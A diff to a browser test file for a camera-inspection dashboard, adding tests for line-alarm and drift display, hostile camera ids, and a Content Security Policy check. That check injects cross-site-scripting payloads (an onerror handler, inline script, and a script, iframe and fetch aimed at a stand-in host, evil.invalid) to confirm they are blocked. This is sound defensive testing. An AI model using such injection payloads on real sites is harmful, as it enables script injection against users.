@@ -10,8 +10,12 @@ import { type Browser, chromium, type Page } from 'playwright-core';
 import { Registry } from 'prom-client';
 import type { Health } from '../../src/observe/health.js';
 import { type HttpServer, startHttp } from '../../src/observe/http.js';
+import { boundedId } from '../../src/observe/ids.js';
 import { LiveView } from '../../src/observe/live.js';
 import { Random } from '../../src/random.js';
+import type { DriftStatus } from '../../src/watch/drift.js';
+import type { LineStatus } from '../../src/watch/line-state.js';
+import { hostileIds } from '../helpers/hostile.js';
 import { frameOf, judgementOf, pictureOf, REJECTION, regionOf } from '../observe/synthetic.js';
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -150,6 +154,65 @@ browserTest('a card a camera: picture, verdict, scores', async (t) => {
   });
 });
 
+browserTest('a card tells where the line stands, and of drift', async (t) => {
+  await show({}, async ({ page, live, complaints }) => {
+    const card = cardOf(page, 'cam-1');
+    const tell = (line: LineStatus, drift?: DriftStatus) =>
+      live.publish(frameOf('cam-1'), {
+        ...judgementOf(3, { overlay: pictures.good }),
+        standing: { line, ...(drift && { drift }) },
+      });
+    void tell({ state: 'ok', before: 'ok', anomalous: 0, of: 5 });
+    await card.locator('.verdict', { hasText: 'OK' }).waitFor();
+    t.is(await card.locator('.standing li:visible').count(), 0);
+    const drifting = { value: -0.314, limit: 0.2, warning: true, changed: true };
+    void tell({ state: 'warning', before: 'ok', anomalous: 1, of: 5 }, drifting);
+    await card.getByText('1 of 5 anomalous').waitFor();
+    await card.getByText('scores drift −0.31').waitFor();
+    void tell({ state: 'alarm', before: 'warning', anomalous: 3, of: 5 }, drifting);
+    await card.getByText('LINE ALARM: 3 of 5').waitFor();
+    await screenshot(page, 'standing');
+    void live.publish(frameOf('cam-1'), REJECTION); // tells nothing of either
+    await card.locator('.verdict', { hasText: 'REJECTED' }).waitFor();
+    t.is(await card.locator('.standing li:visible').count(), 2);
+    const over = { ...drifting, value: 0, warning: false };
+    void tell({ state: 'ok', before: 'alarm', anomalous: 0, of: 5 }, over);
+    await card.locator('.standing li:visible').first().waitFor({ state: 'hidden' });
+    t.is(await card.locator('.standing li:visible').count(), 0);
+    t.deepEqual(complaints, []);
+  });
+});
+
+browserTest(
+  'the page violates no policy of its own, and a script that got in would not run',
+  async (t) => {
+    await show({ feed: (live, clock) => feed(live, clock, ['cam-1']) }, async ({ page, live }) => {
+      await page.evaluate(
+        'violations = []; addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective))',
+      );
+      defect(live, 'cam-1', 'first');
+      await page.locator('.thumb').first().click();
+      await page.waitForFunction("document.querySelector('#viewer img').naturalWidth === 256");
+      await page.keyboard.press('Escape');
+      t.deepEqual(await page.evaluate('violations'), []);
+      // What an attacker would try whose markup got into the page in spite of all.
+      await page.evaluate(`
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="owned = 1"><p style="color:red">');
+      document.body.append(Object.assign(document.createElement('script'), { textContent: 'owned = 1' }));
+      document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' }));
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' }));
+      fetch('https://evil.invalid/').catch(() => {});
+    `);
+      await page.waitForFunction('new Set(violations).size >= 6');
+      const stopped = new Set(await page.evaluate<string[]>('violations'));
+      const resources = ['connect-src', 'frame-src', 'img-src'];
+      const code = ['script-src-attr', 'script-src-elem', 'style-src-attr'];
+      t.deepEqual([...stopped].sort(), [...resources, ...code]);
+      t.is(await page.evaluate('typeof owned'), 'undefined');
+    });
+  },
+);
+
 browserTest('a verdict stands beside the picture that it was given to', async (t) => {
   await show({}, async ({ page, live, clock }) => {
     const verdict = (word: string) => page.locator('.verdict', { hasText: word }).waitFor();
@@ -215,6 +278,33 @@ browserTest('ids are text, whatever is in them', async (t) => {
     t.is(await page.title(), 'Patchline');
     t.deepEqual(complaints, []);
     t.is(hosts.size, 1);
+  });
+});
+
+browserTest('fifty hostile cameras and frames are fifty cards with pictures', async (t) => {
+  const ids = hostileIds(50);
+  const feeding = (live: LiveView) => {
+    for (const id of ids) defect(live, id, id);
+  };
+  await show({ feed: feeding, viewport: VIEWPORTS.wall4k }, async (shown) => {
+    const { page, complaints, hosts } = shown;
+    const names = new Set(ids.map(boundedId));
+    await page
+      .locator('.card img:not([hidden])')
+      .nth(names.size - 1)
+      .waitFor();
+    const named = new Set(await page.locator('.card-name').allTextContents());
+    t.deepEqual(
+      [...names].filter((name) => !named.has(name)),
+      [],
+    );
+    await page.locator('.thumb').first().click();
+    await page.waitForFunction("document.querySelector('#viewer img').naturalWidth === 256");
+    t.is(await page.evaluate('typeof owned'), 'undefined');
+    t.is(await page.title(), 'Patchline');
+    t.is(await page.locator('body script, img[src="x"]').count(), 0);
+    t.is(hosts.size, 1);
+    t.deepEqual(complaints, []);
   });
 });
 
